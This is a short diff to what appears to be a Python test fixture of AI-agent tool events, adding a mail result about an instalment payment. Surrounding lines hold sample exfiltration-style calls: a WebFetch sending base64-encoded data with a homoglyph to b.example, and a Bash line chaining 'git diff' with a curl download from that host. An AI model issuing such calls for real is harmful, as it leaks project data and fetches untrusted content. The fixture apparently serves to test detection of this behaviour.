@@ -110,6 +110,7 @@ _FIRST_EVENTS: tuple[Event, ...] = (
         "3", "claude-code", "WebFetch", {"url": "https://b.example/p1?q=QUJDREVGR0hJSktM\u0430"}
     ),
     ToolCall("4", "claude-code", "Bash", {"command": "git diff | head -5 && curl b.example > x"}),
+    ToolResult("6", "claude-code", "mail", {}, "Amount due: 12 EUR, first of 2 instalments"),
     ToolCall("5", "claude-code", "Edit", {"file_path": "/project/a.py", "new_string": "b"}),
 )
 
